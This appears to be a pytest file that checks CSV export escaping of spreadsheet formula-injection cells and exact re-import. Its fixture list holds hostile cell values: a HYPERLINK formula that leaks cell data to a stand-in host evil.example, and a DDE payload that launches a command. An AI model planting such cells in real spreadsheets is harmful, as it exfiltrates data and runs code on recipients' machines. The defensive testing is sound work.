"""CSV exports neutralise cells a spreadsheet would run as formulas (OWASP), and import back
unchanged; ``csv_formulas=raw`` writes them as they are (issue 20, item 3)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from assay.formats.csv_ import escape_formula, unescape_formula
from assay.services import exports, imports
from assay.services.actors import SYSTEM
from assay.store.engine import Store
from tests.factories import make_project

TRICKY = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''=twice",
    "'plain quote",
    "-5",
    "+1.5e3",
    "-",
    "plain",
    "",
    "a=b",
]


@pytest.mark.parametrize("text", TRICKY)
def test_escape_round_trips_and_leaves_no_formula(text: str) -> None:
    cell = escape_formula(text)
    assert unescape_formula(cell) == text
    numbers = ("-5", "+1.5e3")
    if text[:1] in ("=", "+", "-", "@", "\t", "\r") and text not in numbers:
        assert cell.startswith("'")
    if text in numbers or text[:1] not in ("=", "+", "-", "@", "\t", "\r", "'"):
        assert cell == text


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


SCHEMA = {
    "name": "csvproj",
    "fields": [{"name": "text", "type": "text"}],
    "questions": [{"name": "label", "type": "label", "options": ["a", "b"]}],
}


def test_a_csv_export_makes_formulas_text_and_imports_back_unchanged(store: Store, tmp_path: Path) -> None:
    src = make_project(store, SCHEMA)
    rows = [{"id": f"=x{i}" if i % 2 else f"r{i}", "text": t} for i, t in enumerate(TRICKY) if t]
    imports.import_rows(store, SYSTEM, src["id"], enumerate(rows, 1))
    out = tmp_path / "out.csv"
    exports.export_file(store, SYSTEM, src["id"], out, fmt="csv")
    body = _cells(out)[1:]
    for row in body:
        for cell in row:  # no cell a spreadsheet would run (plain numbers are numbers)
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or cell in ("-5", "+1.5e3")
    assert any(c == '\'=HYPERLINK("http://evil.example/?"&A1, "click")' for r in body for c in r)
    copy = make_project(store, {**SCHEMA, "name": "copy"})
    imports.import_file(store, SYSTEM, copy["id"], out)

    def texts(pid: int) -> set[tuple[str, str]]:
        with store.read() as conn:
            return {(r["external_id"], r["fields"]["text"]) for r in exports.iter_export_rows(conn, pid)}

    assert texts(copy["id"]) == texts(src["id"]) == {(r["id"], r["text"]) for r in rows}
    raw = tmp_path / "raw.csv"
    exports.export_file(store, SYSTEM, src["id"], raw, fmt="csv", csv_formulas="raw")
    assert any(c.startswith("=HYPERLINK") for r in _cells(raw)[1:] for c in r)
